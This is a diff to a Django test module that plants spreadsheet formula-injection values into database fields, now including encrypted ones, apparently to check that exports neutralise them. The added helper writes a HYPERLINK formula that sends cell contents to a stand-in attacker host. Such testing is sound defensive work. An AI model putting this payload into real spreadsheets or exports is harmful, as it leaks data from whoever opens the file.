@@ -30,6 +30,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from kaifaqu.accounts.models import User
+from kaifaqu.core.crypto.fields import EncryptedMixin
 from kaifaqu.core.exports import FORMULA_TRIGGERS
 from kaifaqu.core.imports.views import ImportTemplateView
 from kaifaqu.core.views.registry import RegistryExportView
@@ -71,6 +72,14 @@ def _hostile(index: int, max_length: int | None) -> Any:
     return Concat(Value(trigger + "1+"), Cast("pk", models.CharField()))
 
 
+def _hostile_text(index: int, max_length: int | None, pk: int) -> str:
+    """_hostile's text, computed here, for fields the database cannot write (encrypted)."""
+    trigger = FORMULA_TRIGGERS[index % len(FORMULA_TRIGGERS)]
+    if trigger == "=" and (max_length is None or max_length >= 60):
+        return f'=HYPERLINK("http://evil.example/?leak="&A1,"{pk}")'
+    return f"{trigger}1+{pk}"
+
+
 def _plant() -> int:
     planted = 0
     for model in apps.get_models():
@@ -89,6 +98,12 @@ def _plant() -> int:
             rows = model._default_manager.exclude(**{field.name: ""}).exclude(
                 **{f"{field.name}__isnull": True}
             )
+            if isinstance(field, EncryptedMixin):
+                # The database cannot write an encrypted field: the same text, row by row.
+                for pk in rows.values_list("pk", flat=True):
+                    value = _hostile_text(planted + index, field.max_length, pk)
+                    planted += model._default_manager.filter(pk=pk).update(**{field.name: value})
+                continue
             planted += rows.update(**{field.name: _hostile(planted + index, field.max_length)})
     return planted
 
